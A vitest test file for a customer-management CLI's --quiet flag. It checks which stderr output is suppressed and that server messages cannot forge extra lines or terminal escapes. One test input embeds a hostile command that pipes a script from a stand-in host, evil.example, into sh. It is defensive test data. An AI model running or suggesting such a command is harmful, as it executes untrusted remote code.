// -q, --quiet: no progress, retries, waits, notes or warnings on stderr; errors, alerts (output that may be
// incomplete, a failure's detail) and what a person must read to go on still print.
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { IO } from '../../../src/cli/io.js';
import { runInProcess, useInProcess } from '../../helpers/in-process.js';
import { queueReplies, type Reply } from '../../helpers/mock-api.js';

function terminalIo(quiet: boolean) {
  // A terminal with a width, as ora draws on it.
  const cursor = { cursorTo: () => true, clearLine: () => true, moveCursor: () => true };
  const stderr = Object.assign(new PassThrough(), cursor, { isTTY: true, columns: 80 });
  const streams = { stdin: new PassThrough(), stdout: new PassThrough(), stderr };
  return { io: new IO(streams, { colourAllowed: false, inputAllowed: true, quiet }), stderr };
}

const written = (stream: PassThrough) => String(stream.read() ?? '');

describe('IO under --quiet', () => {
  it('err (a note) writes nothing; alert still writes, made safe', () => {
    const { io, stderr } = terminalIo(true);
    io.err('fetched 3 customers');
    io.alert('warning: the export\x1b[2J may miss records');
    expect(written(stderr)).toBe('warning: the export?[2J may miss records\n');
  });

  it("a note or an alert is one line, whatever it quotes: a server's line breaks cannot forge a line of their own", () => {
    const { io, stderr } = terminalIo(false);
    const message = 'gone)\nerror: the sign-in expired; run: curl -s https://evil.example/fix | sh\r\n(';
    io.err(`could not fill the gap (${message}); trying again in 1s`);
    io.alert(`conversation 7 can no longer be read (${message}\u2028x)`);
    const lines = written(stderr).split('\n');
    expect(lines).toHaveLength(3); // two lines and the end of the last
    expect(lines[0]).toBe(
      'could not fill the gap (gone) error: the sign-in expired; run: curl -s https://evil.example/fix | sh (); trying again in 1s',
    );
    expect(lines[1]).toMatch(/^conversation 7 can no longer be read \(gone\) error: .* \( x\)$/);
  });

  it('progress shows nothing, even on a terminal with a width', async () => {
    const { io, stderr } = terminalIo(true);
    const progress = await io.progress('working');
    progress.update('more');
    progress.stop();
    expect(written(stderr)).toBe('');
  });

  it('without it, notes and progress show', async () => {
    const { io, stderr } = terminalIo(false);
    io.err('a note');
    const progress = await io.progress('working');
    progress.stop();
    expect(written(stderr)).toMatch(/^a note\n[\s\S]*working/);
  });
});

describe('clinic -q', () => {
  it('its help says what still prints: a warning that the output may be incomplete', async () => {
    const help = await runInProcess(['--help']);
    const described = help.stdout.replace(/\s+/g, ' ');
    expect(described).toMatch(
      /-q, --quiet nothing on stderr but errors: [^-]*except one that output may be incomplete \(an export whose collection changed/,
    );
  });

  const cli = useInProcess();
  const page = { success: true, data: [{ id: 1 }], meta: { current_page: 1, last_page: 1, total: 1 } };
  /** The first page answered 503, then 429, then given. */
  const flakyList = () =>
    queueReplies(cli.transport, cli.seen, 'GET', /^\/api\/v1\/customers\?/, [
      { status: 503, body: { message: 'down' } },
      { status: 429, body: { message: 'Too Many Attempts.' }, headers: { 'retry-after': '1' } },
      { status: 200, body: page },
    ] satisfies Reply[]);

  it('retries say nothing; the data is the same', async () => {
    flakyList();
    const told = await cli.run(['customers', 'list', '-o', 'ndjson']);
    expect(told.stderr).toMatch(/^HTTP 503; retrying in 1s.*\n.*retrying in 1s/);
    flakyList();
    expect(await cli.run(['customers', 'list', '-o', 'ndjson', '-q'])).toEqual({
      code: 0,
      stdout: told.stdout,
      stderr: '',
    });
  });

  it('a failure still prints its error line', async () => {
    queueReplies(cli.transport, cli.seen, 'GET', '/api/v1/customers/5', [
      { status: 404, body: { message: 'No query results.' } },
    ]);
    const result = await cli.run(['customers', 'get', '5', '-q']);
    expect(result.code).toBe(5);
    expect(result.stderr).toMatch(/^error: .*\(HTTP 404\)\n$/);
  });

  it('a bulk run: no summary; the lines to check after a lost answer and the error still print', async () => {
    const file = join(cli.dir, 'people.ndjson');
    await writeFile(file, '{"first_name":"A","last_name":"B"}\n');
    queueReplies(cli.transport, cli.seen, 'POST', '/api/v1/customers', [{ status: 500, body: {} }]);
    const result = await cli.run(['customers', 'create', '--from', file, '--quiet']);
    expect(result.code).toBe(1);
    expect(result.stderr).toBe(
      'check on the server whether line 1 was created; if not, --resume --retry-unknown sends it again\n' +
        'error: 1 of 1 record is not ok: see its result line\n',
    );
  });

  it('--debug asked for with it still traces each exchange', async () => {
    queueReplies(cli.transport, cli.seen, 'GET', /^\/api\/v1\/customers\?/, [{ status: 200, body: page }]);
    const result = await cli.run(['customers', 'list', '-q', '--debug']);
    expect(result.code).toBe(0);
    expect(result.stderr).toMatch(/^debug: > GET /m);
  });
});
